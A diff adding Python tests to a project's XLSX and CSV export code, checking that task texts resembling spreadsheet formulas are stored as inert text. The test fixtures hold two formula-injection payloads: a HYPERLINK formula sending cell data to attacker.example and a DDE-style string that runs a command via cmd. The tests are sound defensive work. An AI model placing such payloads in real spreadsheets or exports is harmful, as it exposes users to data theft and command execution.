@@ -702,3 +702,41 @@ def test_a_trusted_proxy_that_is_not_an_address_is_refused(store):
 
     result = CliRunner().invoke(main, ["serve", "--store", str(store), "--trusted-proxy", "proxy.local"])
     assert result.exit_code == 2 and "proxy.local" in result.output and "not an IP address" in result.output
+
+
+# ------------------------------------------------------------ exports opened in Excel
+
+FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")'
+
+
+def _export_rows():
+    from graph.queries import QueryResult
+
+    cells = [FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "- Sở Tài chính chủ trì", "Sở Công Thương"]
+    return QueryResult(columns=["task"], rows=[{"task": ox.Literal(cell)} for cell in cells])
+
+
+def test_document_text_that_looks_like_a_formula_is_text_in_the_xlsx_export():
+    """Task texts come from documents: '=…' must not become a live formula (openpyxl writes a
+    string that starts with '=' as one), in /tree?format=xlsx or the CLI's --format xlsx."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from graph.queries import to_xlsx
+
+    sheet = load_workbook(io.BytesIO(to_xlsx(_export_rows()))).active
+    cells = [sheet.cell(row=n, column=1) for n in range(2, 6)]
+    assert [cell.data_type for cell in cells] == ["s"] * 4
+    assert cells[0].value == FORMULA
+
+
+def test_document_text_that_looks_like_a_formula_is_neutralised_in_the_csv_export():
+    """In CSV, Excel evaluates a field that opens with '=' or '@': such a field opens with an
+    apostrophe (Excel's mark for text); Vietnamese bullets ('- …') and other text are untouched."""
+    from graph.queries import to_csv
+
+    lines = to_csv(_export_rows()).removeprefix("\ufeff").split("\r\n")
+    assert lines[1] == '"\'=HYPERLINK(""http://attacker.example/?d=""&A1,""Bấm vào đây"")"'
+    assert lines[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert lines[3:5] == ["- Sở Tài chính chủ trì", "Sở Công Thương"]
